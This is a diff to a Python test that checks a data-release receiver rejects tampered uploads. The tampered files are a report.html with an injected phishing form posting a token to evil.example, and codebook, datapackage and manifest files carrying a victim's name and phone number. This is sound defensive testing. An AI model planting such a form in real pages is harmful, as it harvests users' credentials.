@@ -382,16 +382,23 @@ def test_an_extra_table_named_in_the_constant_is_accepted_only_with_allowed_cell
     assert central.upload(_with_listed_extras(bundle.files, {"other.csv": b"a\n1\n"}), key=bundle.release_id).status_code == 422
 
 
-def test_report_and_codebook_must_be_what_the_receiver_renders(central):
+def test_served_files_must_be_what_the_receiver_builds_from_the_admitted_table(central):
     from tests.unit.test_central_fixtures import rehash, tampered
 
     bundle = make_bundle("ngo-a")
     phishing = bundle.files["report.html"].replace(b"</body>", b"<form action='https://evil.example'>Re-enter your token <input name=t></form></body>")
-    for name, content in (("report.html", phishing), ("codebook.md", bundle.files["codebook.md"] + b"\nVictim: Anna Petrenko, +380501234567\n")):
+    package = json.loads(bundle.files["datapackage.json"])
+    package["resources"][0]["schema"]["fields"][0]["description"] = "Anna Petrenko's case, +380501234567"
+    for name, content in (("report.html", phishing), ("codebook.md", bundle.files["codebook.md"] + b"\nVictim: Anna Petrenko, +380501234567\n"),
+                          ("datapackage.json", json.dumps(package, indent=2, sort_keys=True).encode() + b"\n")):
         files = rehash(tampered(bundle, name, content))
         response = central.upload(files, key=json.loads(files["manifest.json"])["release_id"])
         assert response.status_code == 422, response.text
-        assert f"{name} is not the" in _reasons(response) and "Anna" not in response.text
+        assert f"{name} is not what this receiver builds" in _reasons(response) and "Anna" not in response.text
+    manifest = json.loads(bundle.files["manifest.json"])
+    manifest["run_ids"] = ["Anna Petrenko +380501234567"]
+    response = central.upload({**bundle.files, "manifest.json": json.dumps(manifest).encode()})
+    assert response.status_code == 422 and "run_ids must be a list of ids" in _reasons(response) and "Anna" not in response.text
     assert central.stored() == (0, [])
     assert central.upload(bundle).status_code == 201
     served = central.client.get(f"/releases/{bundle.release_id}/files/report.html", headers=central.auth("admin"))
